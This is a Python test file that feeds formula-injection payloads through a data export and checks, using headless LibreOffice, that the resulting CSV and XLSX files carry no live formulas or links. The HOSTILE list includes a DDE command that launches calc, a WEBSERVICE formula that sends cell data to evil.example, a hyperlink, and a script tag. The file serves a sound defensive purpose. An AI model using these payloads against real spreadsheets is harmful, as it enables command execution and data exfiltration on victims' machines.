"""LibreOffice itself opens exports: hostile names are text, numbers are numbers."""

import os
import subprocess
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest

from pipeledger.editions import Edition
from pipeledger.export import Wanted, export
from tests.programs import program

OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
LINK = "{http://www.w3.org/1999/xlink}href"
HOSTILE = (
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|'/c calc'!A1",
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    "http://evil.example/",
    "1,5",
    "<script>alert(1)</script>",
)


@pytest.mark.slow
def test_libreoffice_finds_no_formula_and_no_link_and_takes_numbers_for_numbers(
    tmp_path: Path,
) -> None:
    """What a stranger wrote must not run on the desk of whoever opens an export."""
    # The calculator's own library: `soffice` alone is there with any part of LibreOffice.
    office = program("lib/libreoffice/program/libsclo.so").with_name("soffice")
    path = tmp_path / "one.duckdb"
    with duckdb.connect(str(path)) as db:
        db.execute("create schema marts")
        db.execute("create table marts.fct_deal (name varchar, amount_rc decimal(18, 4), n bigint)")
        db.executemany("insert into marts.fct_deal values (?, -1234.5, 7)", [[n] for n in HOSTILE])
    edition = Edition("one", path, datetime(2026, 10, 15, 6, tzinfo=UTC))
    for kind in ("csv", "xlsx"):
        folder = tmp_path / kind
        folder.mkdir()
        export(edition, Wanted("fct_deal", kind), folder / f"deals.{kind}")

    for kind in ("csv", "xlsx"):
        folder = tmp_path / kind
        # As unwary as it can be told to: numbers by their looks, formulas evaluated.
        given = (
            ["--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,,true"]
            if kind == "csv"
            else []
        )
        subprocess.run(
            [
                *(str(office), "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"),
                *(*given, "--convert-to", "fods", "--outdir", str(folder)),
                str(folder / f"deals.{kind}"),
            ],
            check=True,
            capture_output=True,
            env={**os.environ, "HOME": str(tmp_path)},
            timeout=120,
        )

    for kind in ("csv", "xlsx"):
        root = ET.parse(tmp_path / kind / "deals.fods").getroot()  # noqa: S314 - of our own program
        cells = list(root.iter(f"{{{TABLE}}}table-cell"))
        assert not [cell for cell in cells if f"{{{TABLE}}}formula" in cell.attrib]
        assert not list(root.iter(f"{{{TEXT}}}a"))
        spots = [c for c in root.iter() if LINK in c.attrib and "evil" in c.attrib[LINK]]
        assert not spots
        values = [
            cell.attrib.get(f"{{{OFFICE}}}value")
            for cell in cells
            if cell.attrib.get(f"{{{OFFICE}}}value-type") == "float"
        ]
        assert len(HOSTILE) == values.count("-1234.5")
        assert len(HOSTILE) == values.count("7")
